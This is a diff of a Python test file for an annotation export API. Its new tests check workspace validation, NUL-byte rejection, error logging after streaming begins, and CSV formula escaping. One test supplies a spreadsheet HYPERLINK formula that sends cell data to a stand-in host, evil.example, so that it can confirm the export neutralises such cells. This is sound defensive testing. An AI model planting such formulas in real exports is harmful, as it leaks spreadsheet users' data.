@@ -30,6 +30,7 @@ from tests.factories import (
     UserFactory,
     VerdictFactory,
 )
+from tests.helpers import error_fields
 
 urlpatterns = [
     path("api/v1/", include("annotations.api.export")),
@@ -233,8 +234,12 @@ def test_workspace_filter(
     assert {
         row["workspace"] for row in rows_of(export(client, format="csv", workspace="desk"))
     } == {"desk"}
-    # A workspace you are not in exports nothing.
-    assert lines_of(export(client_for(editor), workspace="elsewhere")) == []
+    # A workspace you are not in is as unknown as one that does not exist: a 400 naming the
+    # parameter, before anything is streamed.
+    for slug in ("elsewhere", "nowhere"):
+        refused = client_for(editor).get(reverse("export"), {"workspace": slug})
+        assert refused.status_code == 400
+        assert error_fields(refused) == {"workspace"}
 
 
 def test_csv_has_a_row_per_verdict(
@@ -429,3 +434,64 @@ def test_pages_do_not_skip_or_repeat_articles_created_in_the_same_instant(
     assert len(ids) == len(set(ids)) == 25
     # The editor's roles, then 7 pages, the last one short: no extra empty query.
     assert len(captured) == 1 + 4 * 7
+
+
+@pytest.mark.parametrize("export_format", ["jsonl", "csv"])
+def test_a_nul_in_a_parameter_is_refused_before_streaming(
+    client_for: Callable[[Any], Any], editor: Any, annotated: dict[str, Any], export_format: str
+) -> None:
+    # PostgreSQL cannot compare text with a NUL: the export failed mid-stream.
+    response = client_for(editor).get(
+        reverse("export"), {"format": export_format, "workspace": "\x00"}
+    )
+    assert response.status_code == 400
+    assert not isinstance(response, StreamingHttpResponse)
+    assert error_fields(response) == {"workspace"}
+
+
+def test_csv_cells_cannot_run_as_formulas(
+    client_for: Callable[[Any], Any], editor: Any, workspace: Workspace, annotator: Any
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    span = SpanFactory(article=ArticleFactory(workspace=workspace, created_by=annotator))
+    claim = ClaimFactory(
+        workspace=workspace, created_by=annotator, text=formula, claimant="+1", spans=[span]
+    )
+    VerdictFactory(claim=claim, explanation="-2+3", sources=[{"url": "https://s.example/@x"}])
+    for text in ["@SUM(A1)", "\tTAB", "\rCR", "plain - text = fine"]:
+        ClaimFactory(workspace=workspace, created_by=annotator, text=text)
+    client = client_for(editor)
+    rows = rows_of(export(client, format="csv"))
+    by_text = {row["claim_text"]: row for row in rows}
+    assert set(by_text) == {
+        "'" + formula,
+        "'@SUM(A1)",
+        "'\tTAB",
+        "'\rCR",
+        "plain - text = fine",
+    }
+    checked = by_text["'" + formula]
+    assert (checked["claimant"], checked["explanation"]) == ("'+1", "'-2+3")
+    # The JSON Lines export is the data as stored.
+    [line] = lines_of(export(client, format="jsonl"))
+    assert [(c["text"], c["claimant"]) for c in line["claims"]] == [(formula, "+1")]
+
+
+def test_an_error_after_streaming_has_begun_is_logged(
+    client_for: Callable[[Any], Any],
+    editor: Any,
+    annotated: dict[str, Any],
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    def failing_records(*args: Any, **kwargs: Any) -> Any:
+        yield from article_records(*args, **kwargs)
+        raise RuntimeError("the database went away")
+
+    monkeypatch.setattr(export_api, "article_records", failing_records)
+    response = export(client_for(editor), format="jsonl")
+    with pytest.raises(RuntimeError):
+        body_of(response)
+    [logged] = [record for record in caplog.records if record.levelname == "ERROR"]
+    assert "streaming had begun" in logged.getMessage()
+    assert logged.request_id == response["X-Request-ID"]  # type: ignore[attr-defined]
